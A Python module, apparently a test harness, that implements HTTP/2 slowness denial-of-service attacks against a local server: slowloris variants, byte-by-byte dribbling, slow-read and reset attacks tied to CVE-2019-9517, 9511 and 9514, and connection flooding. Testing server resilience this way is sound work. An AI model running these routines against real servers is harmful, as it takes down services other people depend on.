"""Attacks by slowness: connections and calls that are begun and held open."""

import socket
import time

from hyperframe.frame import DataFrame, SettingsFrame, WindowUpdateFrame
from wire import PREFACE, STREAM, Refused, Wire, message

# Connections held at a time by each kind of slowness.
HELD = 20


class Plain:
    """A connection that has not come as far as frames."""

    goaway = None

    def __init__(self, port: int):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.socket.setblocking(False)

    def close(self) -> None:
        self.socket.close()

    def until_closed(self, seconds: float) -> None:
        """Has nothing to read."""

    def look(self) -> None:
        try:
            if not self.socket.recv(4_096):
                raise Refused("closed")
        except BlockingIOError:
            pass
        except OSError as error:
            raise Refused(str(error)) from error


def hold(attacker, makers) -> None:
    """Keeps connections open of each kind, does on each what its kind does twice a second, and
    replaces those that the server ended."""
    held = []
    while attacker.goes_on:
        while len(held) < HELD * len(makers) and attacker.goes_on:
            make, step = makers[attacker.connections % len(makers)]
            attacker.connections += 1
            try:
                held.append((make(attacker), step))
            except (Refused, OSError):
                attacker.closed += 1
        for pair in list(held):
            wire, step = pair
            try:
                step(wire)
            except (Refused, TimeoutError):
                wire.until_closed(0.5)
                attacker.note(wire)
                wire.close()
                held.remove(pair)
        time.sleep(0.5)


def plain(attacker) -> Plain:
    return Plain(attacker.port)


def without_preface(attacker) -> Wire:
    class Silent(Wire):
        def send(self, data: bytes) -> None:
            if not data.startswith(PREFACE):
                return
            super().send(PREFACE[:10])

    return Silent(attacker.port, attacker.tls, acknowledges=False)


def without_acknowledgement(attacker) -> Wire:
    return Wire(attacker.port, attacker.tls, acknowledges=False)


def with_open_block(attacker) -> Wire:
    wire = Wire(attacker.port, attacker.tls)
    # Nothing may come between a block's frames, so the server's SETTINGS are answered before.
    wire.frames(0.5)
    wire.send(wire.headers(flags=()).serialize())
    return wire


def look(wire) -> None:
    while wire.frames(0.001):
        pass


SLOWLORIS = [
    (plain, Plain.look),
    (without_preface, look),
    (without_acknowledgement, look),
    (with_open_block, look),
]


def dribbling(attacker) -> Wire:
    """Thirty calls whose messages come a byte at a time."""
    wire = Wire(attacker.port, attacker.tls)
    for _ in range(30):
        head = wire.headers()
        begun = DataFrame(head.stream_id, message(b"x" * 1_000)[:5])
        wire.send(head.serialize() + begun.serialize())
    return wire


def dribble(wire) -> None:
    for stream in range(1, 3, 2):
        wire.send(DataFrame(stream, b"x").serialize())
    look(wire)


def order(payload_bytes: int, count: int) -> bytes:
    """A BenchMessage that asks for a stream."""
    return message(b"\x10" + varint(count) + b"\x18" + varint(payload_bytes))


def varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def stalled(attacker) -> Wire:
    """CVE-2019-9517: forty large answers, and no window for any of them."""
    none = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
    wire = Wire(attacker.port, attacker.tls, settings=none)
    return ask(wire)


def unread(attacker) -> Wire:
    """CVE-2019-9511: forty large answers with all the window there is, that nobody reads."""
    wide = {SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1}
    wire = Wire(attacker.port, attacker.tls, settings=wide)
    wire.frames(0.5)
    return ask(wire)


def ask(wire: Wire) -> Wire:
    for _ in range(40):
        head = wire.headers(wire.head(STREAM))
        data = DataFrame(head.stream_id, order(10_000, 100_000), flags=["END_STREAM"])
        wire.send(head.serialize() + data.serialize())
    return wire


def trickle(wire) -> None:
    """Gives a byte of window and reads a little, so that something always moves."""
    wire.send(WindowUpdateFrame(1, window_increment=1).serialize())
    look(wire)


def provoke(wire) -> None:
    """CVE-2019-9514: has streams reset and does not read before the connection breaks."""
    wire.socket.settimeout(0.2)
    for _ in range(20):
        head = wire.headers(wire.head(extra=[("Upper", "case")]))
        wire.send(head.serialize())


def sense(wire) -> None:
    """Learns that the server is gone without reading what it said."""
    wire.send(b"")
    wire.socket.settimeout(0.2)
    wire.send(WindowUpdateFrame(0, window_increment=1).serialize())


def too_many(attacker) -> None:
    """Connections from one address, held as long as they last."""
    held = []
    while attacker.goes_on:
        attacker.connections += 1
        try:
            wire = Wire(attacker.port, attacker.tls)
            held.append(wire)
        except (Refused, OSError):
            attacker.closed += 1
            time.sleep(0.01)
    for wire in held:
        wire.close()


ALL = {
    "slowloris": lambda attacker: hold(attacker, SLOWLORIS),
    "dribble": lambda attacker: hold(attacker, [(dribbling, dribble)]),
    "slow_read": lambda attacker: hold(attacker, [(stalled, trickle), (unread, sense)]),
    "unread_resets": lambda attacker: hold(attacker, [(without_acknowledgement, provoke)]),
    "connections": too_many,
}
